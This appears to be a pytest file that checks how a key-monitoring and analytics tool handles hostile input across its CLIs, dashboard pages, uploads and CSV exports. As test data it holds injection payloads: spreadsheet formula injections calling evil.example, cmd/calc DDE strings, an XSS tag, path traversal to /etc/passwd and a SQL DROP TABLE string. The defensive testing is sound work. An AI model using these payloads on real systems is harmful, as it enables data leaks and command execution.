"""Hostile input, product-wide: bad configs, bad CLI values, bad URL parameters, bad uploads, formula cells.

Each bad input must give one clear line on stderr and a non-zero exit (CLI), or one inline error and no
exception (page); nothing already stored changes; every CSV we export neutralizes cells a spreadsheet
would run as formulas (`=`, `+`, `-`, `@`, tab, CR), including values that arrive through real data:
key names and owners from the config, job ids from a team ledger.
"""

from __future__ import annotations

import contextlib
import csv
import hashlib
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager
from streamlit.testing.v1 import AppTest

from analytics.__main__ import main as analytics_main
from analytics.export import csv_frame, safe_cell, to_csv
from analytics.ledger import parse_ledger
from collectors.__main__ import main as collectors_main
from config import ConfigError, load_config
from simulator.config_writer import write_config
from simulator.server import start_server
from simulator.world import World
from store.__main__ import main as store_main
from tests.conftest import ROOT, SIM_KEYS, SIM_NOW, SIM_SEED, collect_once, deferred_downloads
from tests.untrusted_text import shown_text
from ui.format import plain
from ui.settings import Settings

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?leak","click me")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
]
HOSTILE_OWNER = '=IMPORTXML("http://evil.example","//a")'
HOSTILE_JOBS = ['=HYPERLINK("http://evil.example/job","j")', "+1+cmd|' /C calc'!A0", "-1-1", "@job"]
NOW_ARG = SIM_NOW.isoformat()


# --- shared world ---------------------------------------------------------------------------------


class HostileWorld(World):
    """The stand-in, but the upstream's job ids start like formulas (`=job_…`, `+job_…`, `-job_…`, `@job_…`)."""

    PREFIXES = ("=", "+", "-", "@")

    def _job_id(self, spec, day, tag) -> str:
        plain_id = super()._job_id(spec, day, tag)
        return self.PREFIXES[int(plain_id[-1], 16) % 4] + plain_id

    def _job_day(self, spec, job_id: str):
        return super()._job_day(spec, job_id[1:] if job_id[:1] in self.PREFIXES else job_id)


def _checksum(db: Path) -> str:
    """Row counts and content of every table: what 'nothing stored changed' means."""
    digest = hashlib.sha256()
    con = duckdb.connect(str(db), read_only=True)
    try:
        tables = con.execute(
            "SELECT table_name FROM information_schema.tables "
            "WHERE table_type = 'BASE TABLE' AND table_catalog = current_database() ORDER BY table_name"
        ).fetchall()
        for (table,) in tables:
            rows = con.execute(f'SELECT * FROM "{table}"').fetchall()
            digest.update(f"{table}:{len(rows)}:".encode())
            digest.update(repr(sorted(map(repr, rows))).encode())
    finally:
        con.close()
    return digest.hexdigest()


@pytest.fixture(scope="module")
def world_db(tmp_path_factory, admin_token_env):
    """A small stand-in world whose config gives keys formula-like names and owners, collected once."""
    folder = tmp_path_factory.mktemp("hostile")
    world = HostileWorld(seed=SIM_SEED, n_keys=min(SIM_KEYS, 8), days=21, now=SIM_NOW)
    assert any(issue["job_id"] for issue in world.billing_issues()), "no upstream job ids in discrepancies"
    server = start_server(world, admin_token=admin_token_env)
    config = folder / "keys.toml"
    write_config(world, config, server.base_url)
    text = config.read_text(encoding="utf-8")
    managed = [spec for spec in world.keys() if spec.managed]
    for spec, hostile in zip(managed, HOSTILE_NAMES, strict=False):
        text = text.replace(f"name = {json.dumps(spec.name)}\n", f"name = {json.dumps(hostile)}\n", 1)
    text = text.replace("[[keys]]\n", f"[[keys]]\nowner = {json.dumps(HOSTILE_OWNER)}\n", 1)
    text = text.replace(f'owner = "{managed[0].owner}"\n', "", 1) if managed[0].owner else text
    config.write_text(text + "\n[reconciliation]\nledger_max_mb = 1\n", encoding="utf-8")
    # Collected in-process while the config still maps the hostile names to the world's secrets.
    loaded = load_config(config)
    assert {k.name for k in loaded.keys} >= set(HOSTILE_NAMES)
    db = folder / "monitor.duckdb"
    summary = collect_once(loaded, db)
    assert summary.keys_ok == len(loaded.keys)
    ledger = folder / "ledger.csv"
    rows = [("job_id", "credits", "key_name", "created_at")]
    rows += [(job, "4.5", HOSTILE_NAMES[0], "2026-11-19T10:00:00Z") for job in HOSTILE_JOBS]
    with ledger.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(rows)
    yield {"folder": folder, "config": config, "db": db, "ledger": ledger, "before": _checksum(db)}
    server.stop()


@pytest.fixture(scope="module", autouse=True)
def database_never_changes(world_db):
    yield
    assert _checksum(world_db["db"]) == world_db["before"], "hostile input changed the stored data"


# --- CLI ------------------------------------------------------------------------------------------


def _run(main, argv: list[str]) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            code = main(argv)
        except SystemExit as exc:  # argparse
            code = exc.code
    return code, out.getvalue(), err.getvalue()


def _assert_one_clear_line(code, out: str, err: str, expected: str) -> None:
    lines = [line for line in err.splitlines() if line.strip()]
    assert code not in (0, None), (code, err)
    assert "Traceback" not in err and "Traceback" not in out
    assert len(lines) == 1, f"expected one line on stderr, got:\n{err}"
    assert expected.lower() in lines[0].lower(), lines[0]
    assert not out.strip(), f"nothing on stdout on error, got {out[:200]!r}"


def _write(folder: Path, name: str, text: str | bytes) -> Path:
    path = folder / name
    path.write_bytes(text if isinstance(text, bytes) else text.encode("utf-8"))
    return path


KEY = '[[keys]]\nname = "a-prod"\nsecret = "rbv_hostile_0123456789"\n'
HOOK = "https://hooks.example.test/services/T000/B000/sup3rs3cr3tw3bh00k"
CONFIGS = {
    "broken.toml": ("[api\nbase_url = 'x'\n" + KEY, "not valid TOML"),
    "top_field.toml": ("colour = 'red'\n" + KEY, "colour"),
    "key_field.toml": (KEY + "colour = 'red'\n", "colour"),
    "api_field.toml": ("[api]\ntokn = 'x'\n" + KEY, "tokn"),
    "collector_field.toml": (KEY + "[collector]\nconcurency = 3\n", "concurency"),
    "alerts_field.toml": (KEY + "[alerts]\ncooldown_hour = 3\n", "cooldown_hour"),
    "alerts_url.toml": (KEY + f"[alerts]\nwebhook_url = '{HOOK}'\n", "webhook_url_env"),
    "missing_env.toml": ('[[keys]]\nname = "a-prod"\nsecret_env = "RBV_HOSTILE_UNSET_VAR"\n', "RBV_HOSTILE_UNSET_VAR"),
    "secret_in_env_field.toml": (
        '[[keys]]\nname = "a-prod"\nsecret_env = "rbv_pa5tedS3cretInTheWrongField"\n',
        "name of an environment variable",
    ),
    "not_utf8.toml": (b"[[keys]]\nname = '\xff\xfe'\n", "UTF-8"),
    "bad_env.toml": ('[[keys]]\nname = "a"\nenvironment = "moon"\nsecret = "rbv_0123456789"\n', "moon"),
}


@pytest.mark.parametrize("name", sorted(CONFIGS))
def test_collector_config_errors_are_one_line_and_touch_nothing(world_db, name):
    text, expected = CONFIGS[name]
    config = _write(world_db["folder"], name, text)
    code, out, err = _run(collectors_main, ["once", "--config", str(config), "--db", str(world_db["db"])])
    _assert_one_clear_line(code, out, err, expected)
    assert code == 2
    assert HOOK not in err and "sup3rs3cr3t" not in err, "the webhook URL (a secret) was echoed"
    assert "pa5tedS3cret" not in err, "a secret pasted into secret_env was echoed"


def test_unknown_fields_fail_the_same_way_wherever_they_are(tmp_path):
    """Decision: an unknown field is an error naming it (never a silent ignore), in every table."""
    for body, field in (
        ("extra = 1\n" + KEY, "extra"),
        (KEY + "extra = 1\n", "extra"),
        ("[api]\nextra = 1\n" + KEY, "extra"),
        (KEY + "[collector]\nextra = 1\n", "extra"),
        (KEY + "[collector.intervals]\nextra = 1\n", "extra"),
        (KEY + "[alerts]\nextra = 1\n", "extra"),
    ):
        with pytest.raises(ConfigError, match=field):
            load_config(_write(tmp_path, "c.toml", body))


def _collector_cases(world_db) -> dict[str, tuple[list[str], str]]:
    folder = world_db["folder"]
    ok = _write(folder, "ok.toml", KEY + "[api]\nbase_url = 'http://127.0.0.1:9'\n").as_posix()
    not_db = _write(folder, "not_a_db.duckdb", b"this is not a database\n").as_posix()
    return {
        "missing --config file": (["once", "--config", f"{folder}/nope.toml", "--db", "x.duckdb"], "does not exist"),
        "no --db": (["once", "--config", ok], "--db"),
        "--db under a file": (["once", "--config", ok, "--db", f"{ok}/monitor.duckdb"], "cannot create"),
        "--db is a directory": (["once", "--config", ok, "--db", str(folder)], "database error"),
        "--db not a DuckDB file": (["once", "--config", ok, "--db", not_db], "not a valid DuckDB"),
        "--concurrency 0": (["once", "--config", ok, "--db", "x.duckdb", "--concurrency", "0"], "--concurrency"),
        "--concurrency abc": (["once", "--config", ok, "--db", "x.duckdb", "--concurrency", "abc"], "--concurrency"),
        "--backoff-scale -1": (["once", "--config", ok, "--db", "x.duckdb", "--backoff-scale", "-1"], "backoff"),
        "--endpoints bogus": (["once", "--config", ok, "--db", "x.duckdb", "--endpoints", "bogus"], "bogus"),
        "--base-url ftp": (["once", "--config", ok, "--db", "x.duckdb", "--base-url", "ftp://x"], "http(s)"),
        "no command": ([], "command"),
    }


def test_collector_cli_bad_values(world_db):
    not_db = world_db["folder"] / "not_a_db.duckdb"
    for label, (argv, expected) in _collector_cases(world_db).items():
        code, out, err = _run(collectors_main, argv)
        _assert_one_clear_line(code, out, err, expected)
        print(label, "->", err.strip())
    assert not_db.read_bytes() == b"this is not a database\n", "a non-database file was overwritten"


def test_collector_cli_as_a_real_process_has_no_traceback(world_db):
    ok = world_db["folder"] / "ok.toml"
    _write(world_db["folder"], "ok.toml", KEY + "[api]\nbase_url = 'http://127.0.0.1:9'\n")
    for argv, expected in (
        (["once", "--config", str(ok), "--db", f"{ok}/monitor.duckdb"], "cannot create"),
        (["once", "--config", str(ok), "--db", "x.duckdb", "--concurrency", "-3"], "--concurrency"),
    ):
        done = subprocess.run(
            [sys.executable, "-m", "collectors", *argv], cwd=ROOT, capture_output=True, text=True, timeout=60
        )
        _assert_one_clear_line(done.returncode, done.stdout, done.stderr, expected)


def _analytics_cases(world_db) -> dict[str, tuple[list[str], str]]:
    folder, db = world_db["folder"], str(world_db["db"])
    broken = _write(folder, "broken_rules.toml", "[rules\n").as_posix()
    bad_rules = _write(folder, "bad_rules.toml", "[rules]\nstale_dayz = 3\n").as_posix()
    not_db = _write(folder, "plain.txt", "hello\n").as_posix()
    binary = _write(folder, "ledger.bin", bytes(range(256)) * 8).as_posix()
    huge = folder / "huge.csv"
    huge.write_bytes(b"job_id,credits\n" + b"job_x,1\n" * 150_000)  # > 1 MB, the configured limit
    config = str(world_db["config"])
    now = ["--now", NOW_ARG]
    return {
        "keys --format xml": (["keys", "--db", db, "--format", "xml"], "--format"),
        "keys --now bad": (["keys", "--db", db, "--now", "yesterday"], "--now"),
        "keys --db missing": (["keys", "--db", f"{folder}/none.duckdb"], "does not exist"),
        "keys --db not a DB": (["keys", "--db", not_db], "not a valid DuckDB"),
        "keys --config broken": (["keys", "--db", db, "--config", broken], "not valid TOML"),
        "keys --config missing": (["keys", "--db", db, "--config", f"{folder}/nope.toml"], "does not exist"),
        "keys [rules] unknown": (["keys", "--db", db, "--config", bad_rules], "stale_dayz"),
        "anomalies --since bad": (["anomalies", "--db", db, "--since", "last tuesday"], "--since"),
        "anomalies --now bad": (["anomalies", "--db", db, "--now", "2026-02-30"], "--now"),
        "anomalies --since after --now": (["anomalies", "--db", db, *now, "--since", "2030-01-01"], "after"),
        "anomalies --format bad": (["anomalies", "--db", db, "--format", "xlsx"], "--format"),
        "reconcile --since bad": (["reconcile", "--db", db, "--since", "2026-13-45"], "--since"),
        "reconcile --format bad": (["reconcile", "--db", db, "--format", "html"], "--format"),
        "reconcile --ledger missing": (["reconcile", "--db", db, "--ledger", f"{folder}/no.csv"], "does not exist"),
        "reconcile --ledger binary": (["reconcile", "--db", db, "--ledger", binary], "UTF-8"),
        "reconcile --ledger huge": (["reconcile", "--db", db, "--config", config, "--ledger", str(huge)], "limit"),
        "reconcile --tolerance -1": (["reconcile", "--db", db, "--tolerance", "-1"], "--tolerance"),
        "reconcile --tolerance abc": (["reconcile", "--db", db, "--tolerance", "abc"], "--tolerance"),
        "reconcile --rounding bad": (["reconcile", "--db", db, "--rounding", "up"], "--rounding"),
        "reconcile --config missing": (["reconcile", "--db", db, "--config", f"{folder}/no.toml"], "does not exist"),
        "reconcile --output bad dir": (["reconcile", "--db", db, *now, "--output", f"{folder}/no/x.csv"], "cannot"),
        "review --week out of range": (["review", "--db", db, "--week", "2026-W99", "--format", "md", "--out", "-"],
                                       "--week"),
        "review --week garbage": (["review", "--db", db, "--week", "garbage", "--format", "md", "--out", "-"],
                                  "--week"),
        "review --format pdf": (["review", "--db", db, "--format", "pdf", "--out", "-"], "--format"),
        "review --now bad": (["review", "--db", db, "--now", "soon", "--format", "md", "--out", "-"], "--now"),
        "review --out bad dir": (["review", "--db", db, *now, "--format", "md", "--out", f"{folder}/no/r.md"],
                                 "cannot write"),
        "review --state-db not a DB": (["review", "--db", db, *now, "--format", "md", "--out", "-",
                                        "--state-db", not_db], "not a valid DuckDB"),
        "unknown command": (["bogus"], "bogus"),
    }  # fmt: skip


def _assert_every_case_one_clear_line(main, cases: dict[str, tuple[list[str], str]]) -> None:
    """Run every {label: (argv, expected fragment)} case; report all that fail, not just the first."""
    failures = []
    for label, (argv, expected) in cases.items():
        code, out, err = _run(main, argv)
        try:
            _assert_one_clear_line(code, out, err, expected)
        except AssertionError as exc:
            failures.append(f"{label}: {exc}")
    assert not failures, "\n".join(failures)


def test_analytics_cli_bad_values(world_db):
    _assert_every_case_one_clear_line(analytics_main, _analytics_cases(world_db))


def test_store_cli_bad_values(world_db):
    folder, db = world_db["folder"], str(world_db["db"])
    not_db = _write(folder, "plain2.txt", "hello\n").as_posix()
    existing = _write(folder, "existing.duckdb", b"keep me").as_posix()
    cases = {
        "info not a DB": (["info", "--db", not_db], "not a valid DuckDB"),
        "prune --now bad": (["prune", "--db", db, "--now", "junk"], "--now"),
        "prune --raw-days 0": (["prune", "--db", db, "--raw-days", "0"], "--raw-days"),
        "backup --out is a file": (["backup", "--db", db, "--out", not_db], "already exists"),
        "restore --from not a backup": (["restore", "--from", str(folder), "--db", f"{folder}/r.duckdb"], "manifest"),
        "restore over a file": (["restore", "--from", str(folder), "--db", existing], ""),
        "no command": ([], "command"),
    }
    _assert_every_case_one_clear_line(store_main, cases)
    assert Path(existing).read_bytes() == b"keep me"


# --- formula cells in every CSV export --------------------------------------------------------------


def _unsafe_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: formula prefixes, unless the cell is a plain number."""
    bad = []
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            if cell.startswith(FORMULA_PREFIXES):
                try:
                    float(cell)
                except ValueError:
                    bad.append(cell)
    return bad


def test_export_helper_neutralizes_every_prefix():
    values = ["=1+1", "+1", "-cmd", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1", "ok", "-", "'=already"]
    text = to_csv([{"v": v} for v in values], ["v"])
    assert not _unsafe_cells(text), text
    frame_text = csv_frame(__import__("pandas").DataFrame({"v": values, "n": range(-5, 5)})).decode()
    assert not _unsafe_cells(frame_text), frame_text
    assert safe_cell(-3.5) == -3.5, "numbers stay numbers"
    assert "'=1+1" in text and "'@SUM(A1)" in text


def test_cli_csv_exports_neutralize_hostile_names_and_job_ids(world_db):
    db, config, ledger = str(world_db["db"]), str(world_db["config"]), str(world_db["ledger"])
    exports = {
        "keys": ["keys", "--db", db, "--config", config, "--now", NOW_ARG, "--format", "csv"],
        "anomalies": ["anomalies", "--db", db, "--now", NOW_ARG, "--since", "2026-10-01", "--format", "csv"],
        "reconcile": ["reconcile", "--db", db, "--config", config, "--ledger", ledger, "--since", "2026-11-01",
                      "--now", NOW_ARG, "--format", "csv"],
    }  # fmt: skip
    texts = {}
    for name, argv in exports.items():
        code, out, err = _run(analytics_main, argv)
        assert code == 0, err
        assert not _unsafe_cells(out), (name, _unsafe_cells(out)[:5])
        texts[name] = out
    # The hostile values really went through: neutralized, not dropped.
    rows = list(csv.reader(io.StringIO(texts["reconcile"])))
    for job in HOSTILE_JOBS:
        assert any(("'" + job) in row for row in rows), job
    upstream = {row[2][:2] for row in rows[1:] if row[2][1:2] in HostileWorld.PREFIXES and row[2][2:6] == "job_"}
    assert len(upstream) >= 2, "upstream job ids with formula prefixes did not reach the export"
    assert upstream <= {"'" + p for p in HostileWorld.PREFIXES}


def _download_spy(payloads: list[tuple[str, bytes]]):
    original = MediaFileManager.add

    def spy(self, path_or_data, mimetype, coordinates, file_name=None, is_for_static_download=False):
        if isinstance(path_or_data, bytes):
            payloads.append((file_name or mimetype, path_or_data))
        return original(self, path_or_data, mimetype, coordinates, file_name, is_for_static_download)

    return original, spy


def _page(world_db, name: str, **query) -> AppTest:
    at = AppTest.from_file(str(ROOT / "pages" / f"{name}.py"), default_timeout=120)
    at.session_state["settings"] = Settings(db_path=world_db["db"], config_path=world_db["config"], demo=False)
    for key, value in query.items():
        at.query_params[key] = value
    at.run()
    assert not at.exception, (name, [e.value for e in at.exception])
    return at


@pytest.fixture
def pinned(monkeypatch, world_db):
    monkeypatch.setenv("RBV_NOW", SIM_NOW.isoformat())
    monkeypatch.setenv("RBV_STATE_DB", str(world_db["folder"] / "state.duckdb"))


def test_every_page_csv_download_neutralizes_hostile_cells(world_db, pinned, monkeypatch):
    payloads = deferred_downloads(monkeypatch)  # the large tables' CSVs, written when clicked
    original, spy = _download_spy(payloads)
    monkeypatch.setattr(MediaFileManager, "add", spy)
    for name in ("overview", "keys", "traffic"):
        at = _page(world_db, name)
        if name in ("overview", "traffic"):
            at.selectbox(key="range_choice").set_value(at.selectbox(key="range_choice").options[-2]).run()
        assert not at.exception, (name, [e.value for e in at.exception])
    at = _page(world_db, "credits")
    at.selectbox(key="range_choice").set_value(at.selectbox(key="range_choice").options[-2]).run()
    at.file_uploader(key="ledger_upload").upload("ledger.csv", world_db["ledger"].read_bytes(), "text/csv").run()
    assert not at.exception, [e.value for e in at.exception]
    assert not at.error, [e.value for e in at.error]
    csvs = {name: data.decode("utf-8") for name, data in payloads if name.endswith(".csv")}
    assert any(n.startswith("keys_") for n in csvs) and any(n.startswith("credit_discrepancies") for n in csvs), list(
        csvs
    )
    for name, text in csvs.items():
        assert not _unsafe_cells(text), (name, _unsafe_cells(text)[:5])
    everything = "\n".join(csvs.values())
    for hostile in (*HOSTILE_NAMES, HOSTILE_OWNER, *HOSTILE_JOBS):
        assert any(("'" + hostile) in row for text in csvs.values() for row in csv.reader(io.StringIO(text))), (
            hostile,
            everything[:500],
        )


@pytest.mark.parametrize("problem", ["missing", "broken"])
def test_every_page_survives_a_missing_or_broken_config(world_db, pinned, problem):
    """A dashboard started with --config naming a missing or broken file: warnings at most, never a traceback."""
    config = world_db["folder"] / f"{problem}_dashboard.toml"
    if problem == "broken":
        config.write_text("[rules\nstale = \n", encoding="utf-8")
    settings = Settings(db_path=world_db["db"], config_path=config, demo=False)
    for name in ("overview", "keys", "key_detail", "traffic", "anomalies", "credits", "review", "collection"):
        at = AppTest.from_file(str(ROOT / "pages" / f"{name}.py"), default_timeout=120)
        at.session_state["settings"] = settings
        at.run()
        assert not at.exception, (name, [e.value for e in at.exception])
        assert at.title, name


# --- URL parameters ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "does-not-exist",
        "",
        "[click](https://evil.example)",
        "<img src=x onerror=alert(1)>",
        ":red[**fake alert**] :material/warning:",
        "A" * 5000,
        "\x00\x1b[31m\r\n",
        "../../etc/passwd",
        "'; DROP TABLE keys; --",
    ],
    ids=["unknown", "empty", "md-link", "html", "directives", "huge", "control", "path", "sql"],
)
def test_key_detail_bad_key_parameter_is_an_inline_error(world_db, pinned, value):
    at = _page(world_db, "key_detail", key=value)
    errors = [e.value for e in at.error]
    assert len(errors) == 1, errors
    message = errors[0]
    assert len(message) < 400, "the parameter is echoed unbounded"
    # Echoed only escaped: no live markdown link, HTML tag or Streamlit directive, no control characters.
    assert not re.search(r"(?<!\\)[<>\[\]]", message), message
    assert "\x00" not in message and "\x1b" not in message
    assert any("Choose a key" in i.value for i in at.info)


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_key_detail_shows_keys_with_formula_like_names(world_db, pinned, name):
    at = _page(world_db, "key_detail", key=name)
    assert not at.error, [e.value for e in at.error]
    assert shown_text(at.subheader[0].value) == name  # Markdown source that renders as exactly the name


def test_plain_escapes_markdown_and_bounds_length():
    assert plain("[x](y)") == "\\[x\\](y)" and plain("no-such-key") == "no-such-key"
    assert len(plain("a" * 1000)) == 80 and plain("a\x00b\nc") == "a b c"


# --- ledger uploads ------------------------------------------------------------------------------------


UPLOADS = {
    "huge": (b"job_id,credits\n" + b"job_x,1\n" * 150_000, "limit"),
    "binary": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4, "not UTF-8"),
    "utf16": ("job_id,credits\njob_1,4\n".encode("utf-16"), "not UTF-8"),
    "nul": (b"job_id,credits\njob_1\x00,4\n", "NUL"),
    "empty": (b"", "empty"),
    "no header": (b"\n\n\n", "header"),
}


@pytest.mark.parametrize("kind", sorted(UPLOADS))
def test_ledger_validation_rejects_hostile_files(kind):
    data, expected = UPLOADS[kind]
    result = parse_ledger(data, 1_048_576)
    assert not result.ok
    lines = result.error_lines()
    assert lines and expected.lower() in lines[0].lower(), lines


@pytest.mark.parametrize("kind", ["huge", "binary", "nul"])
def test_ledger_upload_of_a_hostile_file_is_an_inline_error(world_db, pinned, kind):
    data, expected = UPLOADS[kind]
    at = _page(world_db, "credits")
    charged = next(m.value for m in at.metric if m.label == "Charged")
    at.file_uploader(key="ledger_upload").upload(f"{kind}.csv", data, "text/csv").run()
    assert not at.exception, [e.value for e in at.exception]
    errors = [e.value for e in at.error]
    assert len(errors) == 1 and expected.lower() in errors[0].lower(), errors
    assert next(m.value for m in at.metric if m.label == "Charged") == charged


def test_environment_is_clean():
    assert "RBV_HOSTILE_UNSET_VAR" not in os.environ
